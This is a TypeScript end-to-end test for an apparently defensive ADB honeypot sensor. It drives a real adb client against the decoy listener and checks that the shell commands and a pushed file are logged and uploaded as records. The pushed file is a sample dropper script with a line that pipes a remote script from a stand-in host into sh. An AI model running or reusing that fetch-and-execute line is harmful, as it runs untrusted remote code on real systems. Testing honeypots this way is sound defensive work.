import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { eventually, freePort, requireTool, startSensorProcess } from '../../helpers/sensor-process.ts';
import { startServe } from '../../helpers/serve-process.ts';
import { openStream } from '../../helpers/stream-client.ts';
import { ensureRealDataset } from '../../helpers/test-dataset.ts';

const TOKEN = 'sensor-adb-operator-token-0123456789';

function tempDir(t: TestContext, prefix: string): string {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

describe('umbra sensor: the ADB listener end to end', () => {
  it('should let the adb client connect, run shell commands and push a file, each a honeypot_adb record', async (t) => {
    const adbPath = requireTool('adb');
    const dataDir = tempDir(t, 'umbra-sensor-adb-srv-');
    symlinkSync(await ensureRealDataset(), join(dataDir, 'ip-dataset.bin'));
    const server = await startServe(t, dataDir, ['--demo'], { UMBRA_OPERATOR_TOKEN: TOKEN });
    const key = (await server.line(/demo API key \(every scope\): (\S+)/))[1]!;
    const stream = await openStream(server.port, '/api/v4/feeds/helio/adb/stream', key);
    t.after(() => stream.close());

    const dir = tempDir(t, 'umbra-sensor-adb-');
    const sensor = await startSensorProcess(
      t,
      dir,
      {
        server: server.origin,
        identity: { proxy_ip: '198.51.100.55' },
        domains: ['decoy-adb.example'],
        listeners: [{ protocol: 'adb', bind: '127.0.0.1', port: 0, public_port: 5555 }],
        spool: { dir: join(dir, 'spool') },
        upload: { linger_ms: 20 },
        health: { port: 0 },
      },
      { UMBRA_OPERATOR_TOKEN: TOKEN },
    );
    const port = sensor.ports['adb-5555']!;

    // The adb client runs its own server daemon: a private one, on a port of its own, with its keys in
    // a temporary home, stopped when the test ends (never the machine's adb server on 5037).
    const home = join(dir, 'home');
    mkdirSync(home);
    const adbPort = String(await freePort());
    const env = { ...process.env, HOME: home, ANDROID_SDK_HOME: home, ADB_MDNS: '0' };
    const adb = (...args: string[]) => adbIn(undefined, ...args);
    const adbIn = (input: string | undefined, ...args: string[]) => {
      const r = spawnSync(adbPath, ['-P', adbPort, ...args], { encoding: 'utf8', env, timeout: 20_000, input });
      return { code: r.status, out: `${r.stdout}${r.stderr}`, stdout: r.stdout };
    };
    t.after(() => void adb('kill-server'));
    const device = `127.0.0.1:${port}`;

    const connected = adb('connect', device);
    assert.match(connected.out, new RegExp(`connected to ${device}`), connected.out);
    const id = adb('-s', device, 'shell', 'id');
    assert.equal(id.code, 0, id.out);
    assert.match(id.stdout, /^uid=2000\(shell\) gid=2000\(shell\)/);
    const model = adb('-s', device, 'shell', 'getprop', 'ro.product.model');
    assert.equal(model.stdout.trim(), 'SM-G960F');
    const payload = Buffer.from(`#!/system/bin/sh\n# dropper ${Date.now()}\ncurl http://198.51.100.99/x.sh | sh\n`);
    const file = join(dir, 'x.sh');
    writeFileSync(file, payload);
    const pushed = adb('-s', device, 'push', file, '/data/local/tmp/');
    assert.equal(pushed.code, 0, pushed.out);
    assert.match(pushed.out, /1 file pushed/);

    // An interactive shell, its lines from stdin as a script would send them.
    const interactive = adbIn('echo probe-42\nexit\n', '-s', device, 'shell');
    assert.equal(interactive.code, 0, interactive.out);
    assert.match(interactive.stdout, /starlte:\/ \$ /);
    assert.match(interactive.stdout, /^probe-42\r?$/m);

    const records = (await stream.records(5, 20_000)) as Array<Record<string, any>>;
    const commands = records.map((r) => Buffer.from(r.command, 'base64').toString());
    assert.deepEqual(commands, ['shell:id', 'shell:getprop ro.product.model', payload.toString(), 'echo probe-42', 'exit']);
    assert.deepEqual(
      records.map((r) => r.sequential_id),
      [1, 2, 3, 4, 5],
    );
    assert.equal(new Set(records.map((r) => r.session)).size, 1, 'one adb connection, one session');
    assert.equal(records[2]!.hash, createHash('sha256').update(payload).digest('hex'), 'the pushed file hashed');
    assert.equal(records[0]!.source_ip, '127.0.0.1');
    // The sensor counts a batch once the server's answer is back, a moment after the stream has it.
    const h = await eventually(
      async () => {
        const v = await sensor.health();
        return v.upload.find((u: { feed: string }) => u.feed === 'honeypot_adb').uploaded === 5 ? v : undefined;
      },
      10_000,
      'five uploaded',
    );
    assert.equal(h.listeners[0].records, 5);
  });
});
